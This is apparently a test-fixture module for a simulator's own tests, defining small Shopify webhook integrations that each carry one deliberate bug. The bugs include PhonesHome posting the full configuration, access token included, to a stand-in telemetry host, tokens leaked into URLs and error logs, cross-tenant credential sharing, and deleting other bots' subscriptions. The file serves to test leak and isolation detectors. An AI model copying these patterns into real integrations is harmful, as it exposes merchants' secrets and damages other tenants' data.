"""Small integrations for the simulator's own tests, one bug each (or none).

Loaded by path (``lifecycle_targets.py:Name``), which also exercises the file loader. Each class
is a namespace with ``register`` and ``unregister`` hooks (docs/runtime.md).
"""

from __future__ import annotations

import contextlib
import itertools
import time
from typing import Any

import httpx

from harness.runtime import ResourceNotFoundError, RuntimeError

TOPICS = ("orders/create", "customers/create")
VERSION = "2025-10"


def _base(ctx: Any) -> str:
    return f"https://{ctx.configuration['shopName']}.myshopify.com/admin/api/{VERSION}"


def _headers(ctx: Any) -> dict[str, str]:
    return {"X-Shopify-Access-Token": ctx.configuration["access_token"]}


async def _mine(http: httpx.AsyncClient, ctx: Any, webhook_url: str) -> list[dict[str, Any]]:
    r = await http.get(
        f"{_base(ctx)}/webhooks.json",
        params={"address": webhook_url, "limit": 250},
        headers=_headers(ctx),
    )
    r.raise_for_status()
    hooks: list[dict[str, Any]] = r.json()["webhooks"]
    return hooks


async def _create(http: httpx.AsyncClient, ctx: Any, topic: str, webhook_url: str) -> None:
    body = {"webhook": {"topic": topic, "address": webhook_url, "format": "json"}}
    r = await http.post(f"{_base(ctx)}/webhooks.json", json=body, headers=_headers(ctx))
    if r.status_code == 422 and "already been taken" in r.text:
        return  # a lost response already created it
    r.raise_for_status()


async def _delete_all(http: httpx.AsyncClient, ctx: Any, webhook_url: str) -> None:
    for hook in await _mine(http, ctx, webhook_url):
        r = await http.delete(f"{_base(ctx)}/webhooks/{hook['id']}.json", headers=_headers(ctx))
        if r.status_code != 404:
            r.raise_for_status()


class Good:
    """Find-or-create by address; unregister deletes this address's subscriptions; errors raise."""

    @staticmethod
    async def register(ctx: Any, webhook_url: str) -> None:
        async with httpx.AsyncClient() as http:
            have = {h["topic"] for h in await _mine(http, ctx, webhook_url)}
            for topic in TOPICS:
                if topic not in have:
                    await _create(http, ctx, topic, webhook_url)

    @staticmethod
    async def unregister(ctx: Any, webhook_url: str) -> None:
        async with httpx.AsyncClient() as http:
            await _delete_all(http, ctx, webhook_url)


class GoodSync:
    """Good, as plain functions with a sync client and ``time.sleep`` backoff on 429/5xx."""

    @staticmethod
    def _send(http: httpx.Client, method: str, url: str, **kw: Any) -> httpx.Response:
        for attempt in range(6):
            r = http.request(method, url, **kw)
            if r.status_code == 429 or r.status_code >= 500:
                time.sleep(float(r.headers.get("Retry-After", 2**attempt)))
                continue
            return r
        r.raise_for_status()
        return r

    @staticmethod
    def register(ctx: Any, webhook_url: str) -> None:
        with httpx.Client(headers=_headers(ctx)) as http:
            r = GoodSync._send(
                http, "GET", f"{_base(ctx)}/webhooks.json", params={"address": webhook_url}
            )
            r.raise_for_status()
            have = {h["topic"] for h in r.json()["webhooks"]}
            for topic in TOPICS:
                if topic not in have:
                    body = {"webhook": {"topic": topic, "address": webhook_url}}
                    r = GoodSync._send(http, "POST", f"{_base(ctx)}/webhooks.json", json=body)
                    if r.status_code != 422:
                        r.raise_for_status()

    @staticmethod
    def unregister(ctx: Any, webhook_url: str) -> None:
        with httpx.Client(headers=_headers(ctx)) as http:
            r = GoodSync._send(
                http, "GET", f"{_base(ctx)}/webhooks.json", params={"address": webhook_url}
            )
            r.raise_for_status()
            for hook in r.json()["webhooks"]:
                r = GoodSync._send(http, "DELETE", f"{_base(ctx)}/webhooks/{hook['id']}.json")
                if r.status_code != 404:
                    r.raise_for_status()


_generation = itertools.count(1)


class Duplicates:
    """Creates its subscriptions on every register without looking (idempotent)."""

    @staticmethod
    async def register(ctx: Any, webhook_url: str) -> None:
        async with httpx.AsyncClient() as http:
            for topic in TOPICS:
                address = f"{webhook_url}?generation={next(_generation)}"
                body = {"webhook": {"topic": topic, "address": address}}
                r = await http.post(f"{_base(ctx)}/webhooks.json", json=body, headers=_headers(ctx))
                r.raise_for_status()

    unregister = Good.unregister


class Silent:
    """Swallows every error, mentions it at info level (reported)."""

    @staticmethod
    async def register(ctx: Any, logger: Any, webhook_url: str) -> None:
        try:
            await Good.register(ctx, webhook_url)
        except Exception as exc:
            logger.info("register had a problem: %s", type(exc).__name__)

    unregister = Good.unregister


class TokenInUrl:
    """Sends the token as a query parameter (no_secret_leak: URL)."""

    @staticmethod
    async def register(ctx: Any, webhook_url: str) -> None:
        async with httpx.AsyncClient() as http:
            r = await http.get(
                f"{_base(ctx)}/shop.json",
                params={"access_token": ctx.configuration["access_token"]},
                headers=_headers(ctx),
            )
            del r
        await Good.register(ctx, webhook_url)

    unregister = Good.unregister


class LogsHeaders:
    """Logs the failing request's headers at error level, then raises (no_secret_leak: logs)."""

    @staticmethod
    async def register(ctx: Any, logger: Any, webhook_url: str) -> None:
        try:
            await Good.register(ctx, webhook_url)
        except httpx.HTTPError as exc:
            logger.error("register failed: %s", dict(exc.request.headers))
            raise RuntimeError("could not subscribe") from None

    unregister = Good.unregister


class PhonesHome:
    """Posts the configuration to a telemetry host (no_secret_leak: other host)."""

    @staticmethod
    async def register(ctx: Any, webhook_url: str) -> None:
        async with httpx.AsyncClient() as http:
            with contextlib.suppress(httpx.HTTPError):
                await http.post("https://telemetry.example.com/v1", json=dict(ctx.configuration))
        await Good.register(ctx, webhook_url)

    unregister = Good.unregister


class _Shared:
    base = ""
    token = ""


_shared = _Shared()


class SharedClient:
    """One mutable client for every bot, set on each call (tenant_isolation)."""

    @staticmethod
    async def register(ctx: Any, webhook_url: str) -> None:
        _shared.base, _shared.token = _base(ctx), ctx.configuration["access_token"]
        async with httpx.AsyncClient() as http:
            for topic in TOPICS:
                await _sleep_a_little()
                r = await http.get(
                    f"{_shared.base}/webhooks.json",
                    params={"address": webhook_url, "topic": topic},
                    headers={"X-Shopify-Access-Token": _shared.token},
                )
                if r.status_code == 200 and not r.json()["webhooks"]:
                    body = {"webhook": {"topic": topic, "address": webhook_url}}
                    await http.post(
                        f"{_shared.base}/webhooks.json",
                        json=body,
                        headers={"X-Shopify-Access-Token": _shared.token},
                    )

    unregister = Good.unregister


async def _sleep_a_little() -> None:
    import asyncio

    await asyncio.sleep(0)


class IntolerantUnregister:
    """Stores nothing it can do without: unregister fails when the state is missing."""

    @staticmethod
    async def register(ctx: Any, client: Any, webhook_url: str) -> None:
        await Good.register(ctx, webhook_url)
        await client.set_state(
            type="integration", id=ctx.integration_id, name="hooks", payload={"ok": True}
        )

    @staticmethod
    async def unregister(ctx: Any, client: Any, webhook_url: str) -> None:
        await client.get_state(type="integration", id=ctx.integration_id, name="hooks")
        await Good.unregister(ctx, webhook_url)
        await client.set_state(
            type="integration", id=ctx.integration_id, name="hooks", payload=None
        )


class StaleState:
    """Trusts a stored flag and never re-creates what Shopify removed (convergent)."""

    @staticmethod
    async def register(ctx: Any, client: Any, webhook_url: str) -> None:
        try:
            await client.get_state(type="integration", id=ctx.integration_id, name="done")
            return
        except ResourceNotFoundError:
            pass
        await Good.register(ctx, webhook_url)
        await client.set_state(
            type="integration", id=ctx.integration_id, name="done", payload={"v": 1}
        )

    @staticmethod
    async def unregister(ctx: Any, client: Any, webhook_url: str) -> None:
        await Good.unregister(ctx, webhook_url)
        await client.set_state(type="integration", id=ctx.integration_id, name="done", payload=None)


class KeepsState:
    """Correct, but keeps a ``settings`` state on purpose after unregister (allowlist)."""

    @staticmethod
    async def register(ctx: Any, client: Any, webhook_url: str) -> None:
        await Good.register(ctx, webhook_url)
        await client.set_state(
            type="integration", id=ctx.integration_id, name="settings", payload={"v": 1}
        )

    unregister = Good.unregister


class DeletesEverything:
    """Unregister deletes every subscription the app can see (clean: another bot's too)."""

    register = Good.register

    @staticmethod
    async def unregister(ctx: Any, webhook_url: str) -> None:
        async with httpx.AsyncClient() as http:
            r = await http.get(f"{_base(ctx)}/webhooks.json?limit=250", headers=_headers(ctx))
            r.raise_for_status()
            for hook in r.json()["webhooks"]:
                await http.delete(f"{_base(ctx)}/webhooks/{hook['id']}.json", headers=_headers(ctx))


class Sleepy:
    """Sleeps an hour of virtual time (stopped by the budget) — exercises time handling."""

    @staticmethod
    def register(ctx: Any, webhook_url: str) -> None:
        time.sleep(3600)

    @staticmethod
    def unregister() -> None:
        return None
